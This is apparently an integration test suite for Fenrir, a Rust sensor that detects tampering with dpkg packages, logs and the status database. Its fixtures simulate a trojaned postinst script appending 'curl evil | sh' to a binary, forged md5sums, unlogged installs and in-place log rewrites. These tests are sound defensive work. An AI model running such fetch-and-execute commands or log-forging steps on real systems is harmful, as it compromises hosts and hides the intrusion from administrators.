//! The three witnesses against real dpkg, logrotate and the kernel: installed files checked
//! against dpkg's md5sums and Fenrir's own record, a log rewritten under a running sensor,
//! rotations in every logrotate mode, and changes that never reached the log.

use std::fs::{self, OpenOptions};
use std::io::Write as _;
use std::os::unix::fs::FileExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use anyhow::{bail, Context as _};
use fenrir_tests::dpkg::{require_root, PackageSpec, Sandbox};
use fenrir_tests::sensor::{binary, Sensor};
use serde_json::Value;

const WAIT: Duration = Duration::from_secs(25);

/// Writes the sensor's configuration for `sandbox`: JSON on stdout only, no SSH, a short
/// settling time for rotations, plus `extra` TOML.
fn config(sandbox: &Sandbox, extra: &str) -> anyhow::Result<PathBuf> {
    let path = sandbox.path().join("fenrir.toml");
    fs::write(
        &path,
        format!(
            "host = \"integrity-host\"\nstate_dir = \"{}\"\n\
             [dpkg]\nlog = \"{}\"\nadmin_dir = \"{}\"\n\
             [sinks.journald]\nenabled = false\n\
             [ssh]\nsource = \"off\"\n\
             [tail]\npoll_interval_ms = 200\n\
             [integrity]\nrotation_settle_secs = 2\n{extra}\n",
            sandbox.path().join("state").display(),
            sandbox.log().display(),
            sandbox.admin_dir().display(),
        ),
    )?;
    Ok(path)
}

fn run_args(config: &Path, ebpf: bool) -> Vec<String> {
    let mut args = vec![
        "--config".to_owned(),
        config.display().to_string(),
        "run".to_owned(),
    ];
    if !ebpf {
        args.push("--no-ebpf".to_owned());
    }
    args
}

/// Waits for an event of `category` and returns it with every event seen before it.
fn wait_for(sensor: &Sensor, category: &str) -> anyhow::Result<(Value, Vec<Value>)> {
    let deadline = Instant::now() + WAIT;
    let mut before = Vec::new();
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        let event = sensor
            .next_event(left)
            .with_context(|| format!("waiting for {category}; seen: {before:#?}"))?;
        if event["category"] == category {
            return Ok((event, before));
        }
        before.push(event);
    }
}

fn categories(events: &[Value]) -> Vec<String> {
    events
        .iter()
        .map(|e| e["category"].as_str().unwrap_or("?").to_owned())
        .collect()
}

fn is_integrity(event: &Value) -> bool {
    matches!(
        event["category"].as_str(),
        Some(
            "package_integrity_mismatch"
                | "package_conffile_changed"
                | "log_tamper"
                | "package_change_unlogged"
        )
    )
}

/// Runs `fenrir-sensor verify` on the sandbox.
fn verify(sandbox: &Sandbox, extra: &[&str]) -> anyhow::Result<Output> {
    Command::new(binary()?)
        .arg("verify")
        .arg("--dpkg-admindir")
        .arg(sandbox.admin_dir())
        .arg("--state-dir")
        .arg(sandbox.path().join("state"))
        .args(extra)
        .output()
        .context("failed to run fenrir-sensor verify")
}

fn text(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn md5_hex(path: &Path) -> anyhow::Result<String> {
    let output = Command::new("md5sum").arg(path).output()?;
    Ok(String::from_utf8(output.stdout)?
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .to_owned())
}

#[test]
fn a_file_changed_during_its_install_is_reported_when_the_run_ends() -> anyhow::Result<()> {
    if !require_root("the integrity test") {
        return Ok(());
    }
    let sandbox = Sandbox::new()?;
    let sensor = Sensor::start(&run_args(&config(&sandbox, "")?, false))?;

    // A clean package: its install event and no integrity event.
    sandbox.install(&PackageSpec::new("fenrir-clean", "1.0").conffile())?;
    // A package whose own postinst alters one of its files, as a trojaned script would.
    let spec = PackageSpec::new("fenrir-altered", "1.0")
        .file("usr/bin/fenrir-altered", "#!/bin/sh\necho hi\n")
        .postinst("echo 'curl evil | sh' >> \"$DPKG_ROOT/usr/bin/fenrir-altered\"");
    sandbox.install(&spec)?;

    let (event, before) = wait_for(&sensor, "package_integrity_mismatch")?;
    assert_eq!(
        categories(&before),
        ["package_install", "package_install"],
        "{before:#?}"
    );
    assert_eq!(event["severity"], "HIGH");
    assert_eq!(event["source"], "integrity");
    assert_eq!(event["parsed_data"]["package"], "fenrir-altered");
    assert_eq!(event["parsed_data"]["new_version"], "1.0");
    let evidence = &event["evidence"];
    assert_eq!(evidence["findings_total"], 1, "{event:#}");
    assert_eq!(
        evidence["findings"][0],
        serde_json::json!({"path": "/usr/bin/fenrir-altered", "kind": "file",
                           "problem": "changed", "against": "dpkg"})
    );
    assert!(evidence["record"]["seq"].as_u64().is_some(), "{event:#}");
    assert!(
        event["description"]
            .as_str()
            .is_some_and(|d| d.contains("/usr/bin/fenrir-altered changed")),
        "{event:#}"
    );

    let rest = sensor.drain(Duration::from_secs(3));
    assert!(
        !rest.iter().any(is_integrity),
        "the clean package gave an integrity event: {rest:#?}"
    );
    Ok(())
}

#[test]
fn a_conffile_kept_through_an_upgrade_is_reported_apart() -> anyhow::Result<()> {
    if !require_root("the integrity test") {
        return Ok(());
    }
    let sandbox = Sandbox::new()?;
    let sensor = Sensor::start(&run_args(&config(&sandbox, "")?, false))?;
    sandbox.install(&PackageSpec::new("fenrir-conf", "1.0").conffile())?;
    wait_for(&sensor, "package_install")?;

    // The administrator's edit survives the upgrade, as dpkg keeps a modified conffile.
    fs::write(sandbox.root().join("etc/fenrir-conf.conf"), "setting = 2\n")?;
    sandbox.install(&PackageSpec::new("fenrir-conf", "1.1").conffile())?;
    let (event, before) = wait_for(&sensor, "package_conffile_changed")?;
    assert!(!before.iter().any(is_integrity), "{before:#?}");
    assert_eq!(event["severity"], "INFO");
    assert_eq!(
        event["evidence"]["findings"][0]["path"],
        "/etc/fenrir-conf.conf"
    );
    assert_eq!(event["evidence"]["findings"][0]["kind"], "conffile");
    Ok(())
}

#[test]
fn verify_checks_against_dpkg_and_catches_an_edited_md5sums_by_its_record() -> anyhow::Result<()> {
    if !require_root("the integrity test") {
        return Ok(());
    }
    let sandbox = Sandbox::new()?;
    let sensor = Sensor::start(&run_args(&config(&sandbox, "")?, false))?;
    let spec = PackageSpec::new("fenrir-victim", "1.0")
        .conffile()
        .file("usr/bin/fenrir-victim", "#!/bin/sh\necho victim\n")
        .file("usr/lib/fenrir-victim/helper", "helper\n");
    sandbox.install(&spec)?;
    wait_for(&sensor, "package_install")?;

    // The record is written off the pipeline's thread; wait until verify sees it.
    let deadline = Instant::now() + WAIT;
    loop {
        let output = verify(&sandbox, &["fenrir-victim"])?;
        if text(&output).contains("checked against Fenrir's record too") {
            assert_eq!(output.status.code(), Some(0), "{}", text(&output));
            break;
        }
        if Instant::now() > deadline {
            bail!("no record of the install: {}", text(&output));
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    drop(sensor);

    let binary_path = sandbox.root().join("usr/bin/fenrir-victim");
    fs::write(&binary_path, "#!/bin/sh\necho owned\n")?;
    fs::remove_file(sandbox.root().join("usr/lib/fenrir-victim/helper"))?;
    let output = verify(&sandbox, &["fenrir-victim"])?;
    let shown = text(&output);
    assert_eq!(output.status.code(), Some(2), "{shown}");
    assert!(shown.contains("fenrir-victim:all 1.0: MISMATCH"), "{shown}");
    for expected in [
        "changed            file              /usr/bin/fenrir-victim  [dpkg]",
        "missing            file              /usr/lib/fenrir-victim/helper  [dpkg]",
        "changed            file              /usr/bin/fenrir-victim  [fenrir record]",
        "missing            file              /usr/lib/fenrir-victim/helper  [fenrir record]",
    ] {
        assert!(
            shown.contains(expected),
            "missing `{expected}` in:\n{shown}"
        );
    }

    // Make dpkg's database agree with the altered disk: only Fenrir's record still knows.
    let md5sums = sandbox.admin_dir().join("info/fenrir-victim.md5sums");
    let forged: String = fs::read_to_string(&md5sums)?
        .lines()
        .filter(|l| !l.ends_with("usr/lib/fenrir-victim/helper"))
        .map(|l| {
            if l.ends_with("usr/bin/fenrir-victim") {
                format!(
                    "{}  usr/bin/fenrir-victim\n",
                    md5_hex(&binary_path).unwrap_or_default()
                )
            } else {
                format!("{l}\n")
            }
        })
        .collect();
    fs::write(&md5sums, forged)?;
    let output = verify(&sandbox, &["--json", "fenrir-victim"])?;
    assert_eq!(output.status.code(), Some(2), "{}", text(&output));
    let lines: Vec<Value> = text(&output)
        .lines()
        .map(serde_json::from_str)
        .collect::<Result<_, _>>()?;
    let findings = lines[0]["findings"].as_array().cloned().unwrap_or_default();
    let seen: Vec<(String, String, String)> = findings
        .iter()
        .map(|f| {
            (
                f["path"].as_str().unwrap_or("?").to_owned(),
                f["problem"].as_str().unwrap_or("?").to_owned(),
                f["against"].as_str().unwrap_or("?").to_owned(),
            )
        })
        .collect();
    let expect =
        |path: &str, problem: &str| (path.to_owned(), problem.to_owned(), "record".to_owned());
    assert_eq!(
        seen,
        [
            expect("/usr/bin/fenrir-victim", "changed"),
            expect("/usr/bin/fenrir-victim", "hash_edited"),
            expect("/usr/lib/fenrir-victim/helper", "missing"),
        ],
        "{lines:#?}"
    );
    assert_eq!(lines[1]["summary"]["exit"], 2);
    assert_eq!(lines[1]["summary"]["store"]["intact"], true);

    // An unknown package is an error for scripts; control characters never reach the terminal.
    let output = verify(&sandbox, &["no-such-package\u{1b}[31m"])?;
    assert_eq!(output.status.code(), Some(1));
    assert!(text(&output).contains("no-such-package\\x1b[31m: not installed"));

    // An edited record breaks the store's chain: exit 3 when no file differs otherwise.
    fs::write(&binary_path, "#!/bin/sh\necho victim\n")?;
    let store = sandbox.path().join("state/integrity/records.log");
    let edited = fs::read_to_string(&store)?.replacen("fenrir-victim", "fenrir-victin", 1);
    fs::write(&store, edited)?;
    let output = verify(&sandbox, &["fenrir-clean-none"])?;
    assert!(text(&output).contains("BROKEN"), "{}", text(&output));
    assert_eq!(output.status.code(), Some(3), "{}", text(&output));
    Ok(())
}

/// Rewrites `path` in place at `offset` without changing its size or inode.
fn overwrite_at(path: &Path, offset: u64, bytes: &[u8]) -> anyhow::Result<()> {
    OpenOptions::new()
        .write(true)
        .open(path)?
        .write_all_at(bytes, offset)?;
    Ok(())
}

#[test]
fn a_log_truncated_or_rewritten_under_the_sensor_is_tamper() -> anyhow::Result<()> {
    if !require_root("the integrity test") {
        return Ok(());
    }
    let sandbox = Sandbox::new()?;
    let sensor = Sensor::start(&run_args(&config(&sandbox, "")?, false))?;
    sandbox.install(&PackageSpec::new("fenrir-one", "1.0"))?;
    sandbox.install(&PackageSpec::new("fenrir-two", "1.0"))?;
    wait_for(&sensor, "package_install")?;
    wait_for(&sensor, "package_install")?;

    // Same size, same inode, same first line: the name of the second package changed.
    let log = sandbox.log();
    let content = fs::read_to_string(&log)?;
    let at = content.find("install fenrir-two").context("install line")?;
    overwrite_at(&log, at as u64, b"install fenrir-tw0")?;
    let (event, _) = wait_for(&sensor, "log_tamper")?;
    assert_eq!(event["severity"], "HIGH");
    assert_eq!(event["evidence"]["seen"], "changed", "{event:#}");
    let line_no = content[..at].matches('\n').count() + 1;
    assert_eq!(event["evidence"]["line_no"], line_no, "{event:#}");

    // Shortened: the last lines cut away, as `truncate -s` would.
    let cut = fs::read_to_string(&log)?;
    let keep = cut.find("fenrir-two").context("second package")?;
    let keep = cut[..keep].rfind('\n').map_or(0, |i| i + 1);
    OpenOptions::new()
        .write(true)
        .open(&log)?
        .set_len(keep as u64)?;
    let (event, _) = wait_for(&sensor, "log_tamper")?;
    assert_eq!(event["evidence"]["seen"], "shortened", "{event:#}");
    assert!(
        event["description"]
            .as_str()
            .is_some_and(|d| d.contains("shrank from")),
        "{event:#}"
    );

    // Rewritten through a new file renamed over the log, as `sed -i` does.
    let kept = fs::read_to_string(&log)?;
    let forged: String = kept
        .lines()
        .filter(|l| !l.contains("fenrir-one"))
        .flat_map(|l| [l, "\n"])
        .collect();
    let temporary = log.with_file_name("sedAbc123");
    fs::write(&temporary, forged)?;
    fs::rename(&temporary, &log)?;
    let (event, _) = wait_for(&sensor, "log_tamper")?;
    assert_eq!(event["evidence"]["seen"], "replaced", "{event:#}");
    Ok(())
}

/// Rewrites `path` in place with `text`: the same inode, shorter, as `cat copy > log` does.
fn rewrite_in_place(path: &Path, text: &str) -> anyhow::Result<()> {
    let file = OpenOptions::new().write(true).open(path)?;
    file.set_len(0)?;
    file.write_all_at(text.as_bytes(), 0)?;
    Ok(())
}

/// Returns the log without the lines that name `package`.
fn without(log: &Path, package: &str) -> anyhow::Result<String> {
    Ok(fs::read_to_string(log)?
        .lines()
        .filter(|l| !l.contains(package))
        .flat_map(|l| [l, "\n"])
        .collect())
}

fn package_events(events: &[Value]) -> Vec<String> {
    events
        .iter()
        .filter(|e| e["source"] == "package")
        .map(|e| format!("{} {}", e["category"], e["parsed_data"]["package"]))
        .collect()
}

#[test]
fn lines_left_in_a_shortened_log_are_not_reported_again() -> anyhow::Result<()> {
    if !require_root("the integrity test") {
        return Ok(());
    }
    let sandbox = Sandbox::new()?;
    let config = config(&sandbox, "")?;
    let sensor = Sensor::start(&run_args(&config, false))?;
    sandbox.install(&PackageSpec::new("fenrir-one", "1.0"))?;
    sandbox.install(&PackageSpec::new("fenrir-two", "1.0"))?;
    wait_for(&sensor, "package_install")?;
    wait_for(&sensor, "package_install")?;

    // The first install's lines cut out of the log in place; fenrir-two's stay.
    let log = sandbox.log();
    rewrite_in_place(&log, &without(&log, "fenrir-one")?)?;
    let (event, before) = wait_for(&sensor, "log_tamper")?;
    assert_eq!(event["evidence"]["seen"], "shortened", "{event:#}");
    assert_eq!(package_events(&before), Vec::<String>::new());

    // What dpkg writes after the tampering is reported, and nothing else again.
    sandbox.install(&PackageSpec::new("fenrir-three", "1.0"))?;
    let (event, before) = wait_for(&sensor, "package_install")?;
    assert_eq!(event["parsed_data"]["package"], "fenrir-three", "{event:#}");
    assert_eq!(package_events(&before), Vec::<String>::new());
    let rest = sensor.drain(Duration::from_secs(3));
    assert_eq!(package_events(&rest), Vec::<String>::new());
    let (status, rest) = sensor.stop()?;
    assert!(status.success());
    assert_eq!(package_events(&rest), Vec::<String>::new());

    // The same while the sensor is down: found at start, and the rest not read again.
    rewrite_in_place(&log, &without(&log, "fenrir-two")?)?;
    let sensor = Sensor::start(&run_args(&config, false))?;
    let (event, before) = wait_for(&sensor, "log_tamper")?;
    assert!(
        event["evidence"]["detail"]
            .as_str()
            .is_some_and(|d| d.contains("while the sensor was down")),
        "{event:#}"
    );
    let rest = sensor.drain(Duration::from_secs(3));
    assert_eq!(package_events(&before), Vec::<String>::new());
    assert_eq!(package_events(&rest), Vec::<String>::new());
    Ok(())
}

#[test]
fn a_log_edited_while_the_sensor_was_down_is_tamper_at_start() -> anyhow::Result<()> {
    if !require_root("the integrity test") {
        return Ok(());
    }
    let sandbox = Sandbox::new()?;
    let config = config(&sandbox, "")?;
    let sensor = Sensor::start(&run_args(&config, false))?;
    sandbox.install(&PackageSpec::new("fenrir-before", "1.0"))?;
    wait_for(&sensor, "package_install")?;
    let (status, _) = sensor.stop()?;
    assert!(status.success());

    let log = sandbox.log();
    let content = fs::read_to_string(&log)?;
    let at = content.find("fenrir-before").context("line")?;
    overwrite_at(&log, at as u64, b"fenrir-bef0re")?;
    let sensor = Sensor::start(&run_args(&config, false))?;
    let (event, before) = wait_for(&sensor, "log_tamper")?;
    assert!(before.is_empty(), "{before:#?}");
    assert!(
        event["evidence"]["detail"]
            .as_str()
            .is_some_and(|d| d.contains("while the sensor was down")),
        "{event:#}"
    );
    Ok(())
}

/// Rotates the sandbox's log with the real logrotate and `directives`.
fn logrotate(sandbox: &Sandbox, directives: &str) -> anyhow::Result<()> {
    let conf = sandbox.path().join("logrotate.conf");
    fs::write(
        &conf,
        format!(
            "{} {{\n  rotate 4\n  missingok\n{directives}\n}}\n",
            sandbox.log().display()
        ),
    )?;
    let output = Command::new("logrotate")
        .arg("--force")
        .arg("--state")
        .arg(sandbox.path().join("logrotate.state"))
        .arg(&conf)
        .output()
        .context("failed to start logrotate")?;
    if !output.status.success() {
        bail!(
            "logrotate failed: {}",
            String::from_utf8_lossy(&output.stderr)
        );
    }
    Ok(())
}

#[test]
fn logrotate_in_every_mode_is_no_tamper() -> anyhow::Result<()> {
    if !require_root("the integrity test") {
        return Ok(());
    }
    let modes = [
        ("create", "  create 0644 root root\n", 1),
        ("copytruncate", "  copytruncate\n", 1),
        ("compress", "  create\n  compress\n", 1),
        (
            "compress-delaycompress",
            "  create\n  compress\n  delaycompress\n",
            2,
        ),
        ("copytruncate-compress", "  copytruncate\n  compress\n", 2),
    ];
    for (name, directives, rotations) in modes {
        let sandbox = Sandbox::new()?;
        let sensor = Sensor::start(&run_args(&config(&sandbox, "")?, false))?;
        for round in 0..rotations {
            sandbox.install(&PackageSpec::new(&format!("fenrir-{name}-{round}"), "1.0"))?;
            wait_for(&sensor, "package_install")?;
            logrotate(&sandbox, directives)?;
        }
        sandbox.install(&PackageSpec::new(&format!("fenrir-{name}-after"), "1.0"))?;
        let (event, before) = wait_for(&sensor, "package_install")?;
        assert_eq!(
            event["parsed_data"]["package"],
            format!("fenrir-{name}-after")
        );
        // The sensor's diagnostics say what it read where, for a failure that is rare.
        assert!(
            !before.iter().any(is_integrity),
            "{name}: {before:#?}\n{}",
            sensor.stderr()
        );
        // Past the settling time of a rotation and a full poll.
        let rest = sensor.drain(Duration::from_secs(4));
        assert!(
            !rest.iter().any(is_integrity),
            "{name}: {rest:#?}\n{}",
            sensor.stderr()
        );
        let rotated: Vec<String> = fs::read_dir(sandbox.path().join("log"))?
            .filter_map(Result::ok)
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        assert!(
            rotated.len() > 1,
            "{name}: logrotate rotated nothing: {rotated:?}"
        );
    }
    Ok(())
}

/// Runs dpkg on the sandbox with its log sent to `/dev/null`.
fn dpkg_unlogged(sandbox: &Sandbox, args: &[&str]) -> anyhow::Result<()> {
    let output = Command::new("dpkg")
        .arg(format!("--root={}", sandbox.root().display()))
        .arg("--log=/dev/null")
        .arg("--force-script-chrootless")
        .args(args)
        .output()?;
    if !output.status.success() {
        bail!("dpkg failed: {}", String::from_utf8_lossy(&output.stderr));
    }
    Ok(())
}

#[test]
fn an_install_logged_to_dev_null_is_unlogged_with_its_actor() -> anyhow::Result<()> {
    if !require_root("the integrity test") {
        return Ok(());
    }
    let sandbox = Sandbox::new()?;
    let sensor = Sensor::start(&run_args(&config(&sandbox, "")?, true))?;
    if !sensor.stderr().contains("attribution=true") {
        println!(
            "skipping: the sensor runs without its kernel tracer here:\n{}",
            sensor.stderr()
        );
        return Ok(());
    }
    sandbox.install(&PackageSpec::new("fenrir-logged", "1.0"))?;
    wait_for(&sensor, "package_install")?;

    let deb = sandbox.build(&PackageSpec::new("fenrir-hidden", "6.0"))?;
    dpkg_unlogged(&sandbox, &["-i", &deb.to_string_lossy()])?;
    let (event, before) = wait_for(&sensor, "package_change_unlogged")?;
    assert!(!before.iter().any(is_integrity), "{before:#?}");
    assert_eq!(event["severity"], "HIGH");
    assert_eq!(event["parsed_data"]["package"], "fenrir-hidden");
    assert_eq!(event["parsed_data"]["old_version"], Value::Null);
    assert_eq!(event["parsed_data"]["new_version"], "6.0");
    assert_eq!(event["evidence"]["log"], "/dev/null", "{event:#}");
    assert_eq!(event["evidence"]["writer"], "dpkg");
    assert_eq!(event["evidence"]["after"]["state"], "installed");
    let actor = &event["actor"];
    assert!(actor["pid"].as_u64().is_some(), "{event:#}");
    assert_eq!(actor["uid"], 0);
    assert!(
        actor["dpkg_command"]
            .as_str()
            .is_some_and(|c| c.contains("--log=/dev/null") && c.contains("-i")),
        "{event:#}"
    );

    // Removed the same way: reported again, with the removal's own process.
    dpkg_unlogged(&sandbox, &["--purge", "fenrir-hidden"])?;
    let (event, _) = wait_for(&sensor, "package_change_unlogged")?;
    assert_eq!(event["parsed_data"]["old_version"], "6.0");
    assert_eq!(event["evidence"]["after"], Value::Null);
    assert!(
        event["actor"]["dpkg_command"]
            .as_str()
            .is_some_and(|c| c.contains("--purge")),
        "{event:#}"
    );
    Ok(())
}

#[test]
fn a_direct_edit_of_the_status_database_is_unlogged() -> anyhow::Result<()> {
    if !require_root("the integrity test") {
        return Ok(());
    }
    let sandbox = Sandbox::new()?;
    let sensor = Sensor::start(&run_args(&config(&sandbox, "")?, false))?;
    sandbox.install(&PackageSpec::new("fenrir-edited", "1.0"))?;
    wait_for(&sensor, "package_install")?;
    // Let the database's quiet check pass the logged install first.
    let rest = sensor.drain(Duration::from_secs(2));
    assert!(!rest.iter().any(is_integrity), "{rest:#?}");

    // Pretend a newer version is installed, the way a hand edit hides a downgrade.
    let status = sandbox.admin_dir().join("status");
    let text = fs::read_to_string(&status)?;
    let mut file = OpenOptions::new()
        .write(true)
        .truncate(true)
        .open(&status)?;
    file.write_all(text.replace("Version: 1.0", "Version: 9.9").as_bytes())?;
    drop(file);
    let (event, _) = wait_for(&sensor, "package_change_unlogged")?;
    assert_eq!(event["parsed_data"]["package"], "fenrir-edited");
    assert_eq!(event["parsed_data"]["old_version"], "1.0");
    assert_eq!(event["parsed_data"]["new_version"], "9.9");
    assert_eq!(event["actor"], Value::Null);
    assert_eq!(event["evidence"]["writer"], Value::Null);
    Ok(())
}

/// Runs `fenrir-sensor query` over the sandbox's store and log and returns its JSON events.
fn query(sandbox: &Sandbox, extra: &[&str]) -> anyhow::Result<Vec<Value>> {
    let output = Command::new(binary()?)
        .args(["query", "--format", "json", "--state-dir"])
        .arg(sandbox.path().join("state"))
        .arg("--dpkg-log")
        .arg(sandbox.log())
        .args(extra)
        .output()
        .context("failed to run fenrir-sensor query")?;
    anyhow::ensure!(
        output.status.success(),
        "query failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout)?
        .lines()
        .map(|line| serde_json::from_str(line).context("a JSON event"))
        .collect()
}

#[test]
fn integrity_events_are_stored_and_found_by_their_type() -> anyhow::Result<()> {
    if !require_root("the integrity test") {
        return Ok(());
    }
    let sandbox = Sandbox::new()?;
    let sensor = Sensor::start(&run_args(&config(&sandbox, "")?, false))?;
    let spec = PackageSpec::new("fenrir-altered", "1.0")
        .file("usr/bin/fenrir-altered", "#!/bin/sh\necho hi\n")
        .postinst("echo 'curl evil | sh' >> \"$DPKG_ROOT/usr/bin/fenrir-altered\"");
    sandbox.install(&spec)?;
    wait_for(&sensor, "package_integrity_mismatch")?;

    // A hand edit of the database, then of the log.
    let status = sandbox.admin_dir().join("status");
    let text = fs::read_to_string(&status)?;
    fs::write(&status, text.replace("Version: 1.0", "Version: 9.9"))?;
    wait_for(&sensor, "package_change_unlogged")?;
    // The unlogged "9.9" is checked like an install, and its altered file found again.
    wait_for(&sensor, "package_integrity_mismatch")?;
    let log = sandbox.log();
    let content = fs::read_to_string(&log)?;
    let at = content
        .find("install fenrir-altered")
        .context("install line")?;
    overwrite_at(&log, at as u64, b"install fenrir-a1tered")?;
    wait_for(&sensor, "log_tamper")?;
    let (status, _) = sensor.stop()?;
    assert!(status.success());

    let found = query(
        &sandbox,
        &[
            "--no-logs",
            "--type",
            "integrity_mismatch,change_unlogged",
            "--type",
            "log_tamper",
        ],
    )?;
    assert_eq!(
        categories(&found),
        [
            "package_integrity_mismatch",
            "package_change_unlogged",
            "package_integrity_mismatch",
            "log_tamper"
        ],
        "{found:#?}"
    );
    assert!(
        found.iter().all(|e| e["source"] == "integrity"),
        "{found:#?}"
    );
    assert_eq!(found[1]["parsed_data"]["new_version"], "9.9");
    assert_eq!(found[2]["parsed_data"]["new_version"], "9.9");
    assert_eq!(found[3]["evidence"]["seen"], "changed");

    // Full names work too, and with the log as a source each event is still there once.
    let unlogged = query(&sandbox, &["--type", "package_change_unlogged"])?;
    assert_eq!(categories(&unlogged), ["package_change_unlogged"]);
    let tamper = query(&sandbox, &["--type", "log_tamper"])?;
    assert_eq!(categories(&tamper), ["log_tamper"]);
    // A package type does not bring them along.
    let installs = query(&sandbox, &["--no-logs", "--type", "install"])?;
    assert_eq!(categories(&installs), ["package_install"], "{installs:#?}");
    Ok(())
}
